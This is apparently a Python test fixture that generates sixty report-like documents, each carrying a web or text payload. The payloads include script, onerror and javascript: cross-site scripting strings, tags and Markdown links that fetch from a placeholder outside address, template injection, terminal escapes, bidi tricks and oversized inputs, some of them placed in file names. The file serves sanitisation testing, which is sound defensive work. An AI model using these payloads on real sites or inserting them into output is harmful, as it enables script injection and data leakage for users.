"""Sixty documents that try to run, style, fetch or mislead, as reports: each names a figure that a question finds."""

from __future__ import annotations

from pathlib import Path

MARKER = "hostile-marker"  # what a script that ran would put into the title
OUTSIDE = "http://192.0.2.1"  # an address that leads nowhere (RFC 5737); a request to it is the proof

_RUN = f"document.title='{MARKER}'"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={OUTSIDE}/a.js></sCrIpT>",
    f"<script type=module>import('{OUTSIDE}/m.js')</script>",
    f"<img src=x onerror=\"{_RUN}\">",
    f"<img src={OUTSIDE}/p.png>",
    f"<svg onload=\"{_RUN}\"></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><use href=\"{OUTSIDE}/i.svg#a\"/></svg>",
    f"<svg><a xlink:href=\"javascript:{_RUN}\"><text>x</text></a></svg>",
    f"<style>body{{background:url({OUTSIDE}/s.css)}}</style>",
    f"<style>@import '{OUTSIDE}/s.css';</style>",
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href={OUTSIDE}/l.css>",
    f"<iframe src=\"javascript:parent.{_RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    f"<object data={OUTSIDE}/o></object>",
    f"<embed src={OUTSIDE}/e>",
    f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content=\"0;url={OUTSIDE}/r\">",
    f"<form action={OUTSIDE}/f><button autofocus onfocus=\"{_RUN}\">go</button></form>",
    f"<details open ontoggle=\"{_RUN}\">x</details>",
    f"<video src={OUTSIDE}/v onloadstart=\"{_RUN}\"></video>",
    f"<a href=\"javascript:{_RUN}\">a</a>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\"></noscript>",
    f"[click](javascript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"![p]({OUTSIDE}/p.png)",
    f"![p](javascript:{_RUN})",
    f"[ref]\n\n[ref]: {OUTSIDE}/ref",
    f"<{OUTSIDE}/auto>",
    f"<javascript:{_RUN}>",
    f"{OUTSIDE}/linkified",
    f"[![p]({OUTSIDE}/p.png)](javascript:{_RUN})",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\<script>{_RUN}\\</script>",
    f"`<script>{_RUN}</script>`",
    f"```html\n<script>{_RUN}</script>\n```",
    f"{{{{constructor.constructor(\"{_RUN}\")()}}}}",
    f"${{{_RUN}}} `${{{_RUN}}}`",
    f"\"}};{_RUN};//",
    f"'-({_RUN})-'",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"\u202e{_RUN}\u202c <b>\u2066gnp.exe\u2069",
    "\u202e" * 500 + "reversed",
    "\u0000\u0008\u001b]0;owned\u0007\u001b[2J",
    "a" + "\u0301" * 2000,
    "\u200b\u200c\u200d\ufeff" * 300,
    "> " * 300 + "deep",
    "- " * 300 + "deep",
    "*" * 3000 + "_" * 3000,
    "[" * 3000 + "](" * 3000,
    "| a " * 400 + "|\n" + "|---" * 400 + "|\n" + "| 1 " * 400 + "|",
    "[1] [2] [c1] [999] [^1] [c99]",
    "x" * 3_000,  # as long a line as is wanted: see write
)


def write(folder: Path, longest: int = 1_000_000) -> list[Path]:
    """The documents, as text, Markdown and HTML by turns; the payload is in the title, the text, a cell and the name.

    One has a line of `longest` characters.
    """
    paths = []
    for number, payload in enumerate((*PAYLOADS[:-1], "x" * longest)):
        inline = payload.replace("\n", " ")[:200].replace("|", "/")
        text = (
            f"# Note {number} {inline}\n\n国信证券研究所\n\n"
            f"Widget{number} sold {700 + number} million yuan in 2025 {inline}\n\n"
            f"Table {number}: sales of Widget{number} {inline} (million yuan)\n\n"
            f"| Item {inline} | 2024 | 2025 | 2026E |\n"
            f"|---|---|---|---|\n| Widget{number} {inline} | 1{number} | 2{number} | 3{number} |\n\n{payload}\n"
        )
        suffix = (".md", ".txt", ".html")[number % 3]
        path = folder / f"note {number} <img src=x onerror=alert({number})>{suffix}".replace("/", "")
        path.write_text(f"<html><body><pre>{text}</pre></body></html>" if suffix == ".html" else text, encoding="utf-8")
        paths.append(path)
    return paths
